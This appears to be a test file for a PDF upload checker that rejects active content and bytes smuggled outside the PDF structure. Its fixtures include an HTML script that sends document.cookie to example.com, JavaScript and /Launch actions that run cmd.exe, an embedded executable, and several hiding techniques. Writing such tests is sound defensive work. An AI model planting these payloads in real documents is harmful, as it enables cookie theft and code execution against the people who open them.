import fs from 'node:fs';
import path from 'node:path';
import { PDFDocument, StandardFonts } from '@cantoo/pdf-lib';
import { buildTinyPdf } from '@chalein/testing/files/resume-files';
import { appendIncrementalUpdate, buildPdf, buildPdfWithObjectStreams, pdfSamplesDir } from '@chalein/testing/files/pdf-files';
import { checkPdfFile, type PdfRefusalReason } from './pdf-check';

// Every hostile file here is a valid PDF in every other way (buildPdf writes correct cross-references), so each
// refusal is for the one thing the test adds.

async function expectRefused(bytes: Buffer, reason: PdfRefusalReason, detail?: RegExp) {
  const result = await checkPdfFile(bytes);
  expect(result).toMatchObject({ ok: false, reason });
  if (detail && !result.ok) expect(result.detail).toMatch(detail);
}

async function buildPdfLibDocument(useObjectStreams: boolean, addJavaScript = false): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  document.addPage([595, 842]).drawText('Asha Rao - Resume', { x: 72, y: 760, size: 18, font });
  if (addJavaScript) document.addJavaScript('greeting', 'app.alert("hello")');
  return Buffer.from(await document.save({ useObjectStreams }));
}

describe('PDF check: documents that pass', () => {
  it('accepts the plain one-page PDF the tests upload', async () => {
    expect(await checkPdfFile(buildPdf())).toEqual({ ok: true });
    expect(await checkPdfFile(buildTinyPdf())).toEqual({ ok: true });
  });

  it('accepts what pdf-lib writes, with and without object streams', async () => {
    expect(await checkPdfFile(await buildPdfLibDocument(false))).toEqual({ ok: true });
    expect(await checkPdfFile(await buildPdfLibDocument(true))).toEqual({ ok: true });
  });

  it('accepts objects in a compressed object stream found through a predicted cross-reference stream', async () => {
    expect(await checkPdfFile(buildPdfWithObjectStreams())).toEqual({ ok: true });
  });

  it('accepts an incremental update (a signed or edited file), a web link and an /OpenAction that only shows a page', async () => {
    const updated = appendIncrementalUpdate(buildPdf(), 5, '<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>', 6);
    expect(await checkPdfFile(updated)).toEqual({ ok: true });
    const link = '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.linkedin.com/in/asha) >> >>';
    expect(await checkPdfFile(buildPdf({ page: '/Annots [6 0 R]', objects: [link] }))).toEqual({ ok: true });
    expect(await checkPdfFile(buildPdf({ catalog: '/OpenAction [3 0 R /Fit]' }))).toEqual({ ok: true });
    expect(await checkPdfFile(buildPdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }))).toEqual({ ok: true });
  });

  it('accepts whitespace after %%EOF and a producer comment in the header lines', async () => {
    expect(await checkPdfFile(buildPdf({ after: '\r\n  \n' }))).toEqual({ ok: true });
    expect(await checkPdfFile(buildPdf({ headerComment: '%\u00e2\u00e3\u00cf\u00d3\n%%Invocation: gs -sDEVICE=pdfwrite' }))).toEqual({
      ok: true,
    });
  });

  it.each(fs.readdirSync(pdfSamplesDir).filter((name) => name.endsWith('.pdf')))('accepts %s, written by a real producer', async (name) => {
    expect(await checkPdfFile(fs.readFileSync(path.join(pdfSamplesDir, name)))).toEqual({ ok: true });
  });
});

describe('PDF check: files that do more than show pages', () => {
  it('refuses document-level JavaScript, also when its name is written with #xx escapes', async () => {
    const script = '<< /S /JavaScript /JS (app.launchURL("https://example.com/steal")) >>';
    await expectRefused(
      buildPdf({ catalog: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', objects: [script] }),
      'active-content',
      /JavaScript/,
    );
    const hidden = '<< /S /J#61vaScript /J#53 (app.alert(1)) >>';
    await expectRefused(buildPdf({ catalog: '/OpenAction 6 0 R', objects: [hidden] }), 'active-content', /JavaScript/);
  });

  it('refuses JavaScript that pdf-lib puts inside a compressed object stream', async () => {
    await expectRefused(await buildPdfLibDocument(true, true), 'active-content', /JavaScript/);
    await expectRefused(buildPdfWithObjectStreams(['<< /S /JavaScript /JS (app.alert(1)) >>'], '/OpenAction 8 0 R'), 'active-content');
  });

  it('refuses an /OpenAction that is an action, and additional actions (/AA)', async () => {
    await expectRefused(
      buildPdf({ catalog: '/OpenAction << /S /URI /URI (https://example.com/track) >>' }),
      'active-content',
      /OpenAction/,
    );
    await expectRefused(buildPdf({ catalog: '/OpenAction 6 0 R', objects: ['<< /S /Named /N /Print >>'] }), 'active-content', /OpenAction/);
    await expectRefused(buildPdf({ page: '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>' }), 'active-content', /additional action/);
  });

  it('refuses a /Launch action, in a link or as the /OpenAction', async () => {
    const launch = '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>';
    const link = '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 7 0 R >>';
    await expectRefused(buildPdf({ page: '/Annots [6 0 R]', objects: [link, launch] }), 'active-content', /Launch/);
    await expectRefused(buildPdf({ catalog: '/OpenAction 6 0 R', objects: [launch] }), 'active-content', /Launch/);
  });

  it('refuses an embedded file and a file attachment annotation', async () => {
    const payload = 'MZ this would be an executable';
    const embedded = [
      `<< /Type /EmbeddedFile /Length ${payload.length} >>\nstream\n${payload}\nendstream`,
      '<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>',
    ];
    await expectRefused(
      buildPdf({ catalog: '/Names << /EmbeddedFiles << /Names [(invoice.exe) 7 0 R] >> >>', objects: embedded }),
      'active-content',
      /embedded file/,
    );
    const attachment = '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 8 0 R >>';
    await expectRefused(buildPdf({ page: '/Annots [6 0 R]', objects: [attachment, ...embedded] }), 'active-content');
  });
});

describe('PDF check: bytes outside the PDF structure', () => {
  const html = '<html><body><script>fetch("https://example.com/?c="+document.cookie)</script></body></html>\n';

  it('refuses an HTML page between two objects, though every cross-reference offset is right', async () => {
    await expectRefused(buildPdf({ objects: ['<< /Producer (x) >>'], between: html }), 'outside-structure', /outside the PDF structure/);
  });

  it('refuses bytes after the final %%EOF', async () => {
    await expectRefused(buildPdf({ after: html }), 'outside-structure', /after %%EOF/);
    await expectRefused(buildPdf({ after: '%<script>alert(1)</script>\n' }), 'outside-structure');
  });

  it('refuses HTML in a comment between objects, and a comment inside an object', async () => {
    await expectRefused(buildPdf({ objects: ['<< /Producer (x) >>'], between: `%${html}` }), 'outside-structure', /comment/);
    await expectRefused(buildPdf({ objects: [`<< /Producer (x) %${html}>>`] }), 'outside-structure', /comment/);
  });

  it('refuses markup on the header line or in the header comments', async () => {
    await expectRefused(
      Buffer.from(buildPdf().toString('latin1').replace('%PDF-1.7', `%PDF-1.7 ${html.trim()}`), 'latin1'),
      'outside-structure',
    );
    await expectRefused(buildPdf({ headerComment: `%\u00e2\u00e3\u00cf\u00d3\n%${html.trim()}` }), 'outside-structure', /markup/);
  });

  it('refuses an object that no cross-reference lists (a page hidden in a stream of its own)', async () => {
    const hidden = `99 0 obj\n<< /Length ${html.length} >>\nstream\n${html}endstream\nendobj\n`;
    await expectRefused(
      buildPdf({ objects: ['<< /Producer (x) >>'], between: hidden }),
      'outside-structure',
      /listed by no cross-reference/,
    );
  });

  it('refuses a cross-reference that points into the middle of another object', async () => {
    const pdf = buildPdf().toString('latin1');
    // object 5's entry moved two bytes on, into its own header
    const entries = [...pdf.matchAll(/(\d{10}) 00000 n /g)];
    const fifth = entries[4]!;
    const moved = pdf.replace(fifth[0], `${String(Number(fifth[1]) + 2).padStart(10, '0')} 00000 n `);
    await expectRefused(Buffer.from(moved, 'latin1'), 'outside-structure', /points inside other data/);
  });

  it('refuses a cross-reference stream whose /Prev points into the data of another object', async () => {
    const pdf = buildPdfWithObjectStreams();
    const contentData = pdf.indexOf(Buffer.from('BT /F1'));
    await expectRefused(buildPdfWithObjectStreams([], '', `/Prev ${contentData} `), 'malformed', /\/Prev/);
  });

  it('refuses a cross-reference stream that puts objects in an object stream the file does not have', async () => {
    await expectRefused(buildPdfWithObjectStreams([], '', '', 9), 'malformed', /object stream 9/);
  });

  it('refuses a stream whose /Length stops before its data does (data smuggled behind the length)', async () => {
    const pdf = buildPdf()
      .toString('latin1')
      .replace(/<< \/Length (\d+) >>/, (_match, length: string) => `<< /Length ${Number(length) - 10} >>`);
    await expectRefused(Buffer.from(pdf, 'latin1'), 'malformed');
  });
});

describe('PDF check: files that are not whole PDFs', () => {
  it('refuses encrypted PDFs', async () => {
    const encrypt = '<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >>';
    await expectRefused(buildPdf({ objects: [encrypt], trailer: '/Encrypt 6 0 R /ID [<01> <01>]' }), 'encrypted');
  });

  it('refuses a cut file, a file without cross-references and text that only starts like a PDF', async () => {
    const pdf = buildPdf();
    await expectRefused(pdf.subarray(0, pdf.length - 20), 'malformed');
    await expectRefused(pdf.subarray(0, Math.floor(pdf.length / 2)), 'malformed');
    await expectRefused(
      Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
      'malformed',
    );
    await expectRefused(Buffer.from('%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n', 'latin1'), 'outside-structure');
    await expectRefused(Buffer.from('<html>%PDF-1.4</html>', 'latin1'), 'malformed');
  });

  it('refuses nesting deep enough to exhaust a recursive parser, quickly', async () => {
    const started = Date.now();
    await expectRefused(buildPdf({ objects: [`${'['.repeat(100_000)}${']'.repeat(100_000)}`] }), 'malformed', /nested too deep/);
    expect(Date.now() - started).toBeLessThan(2000);
  });
});
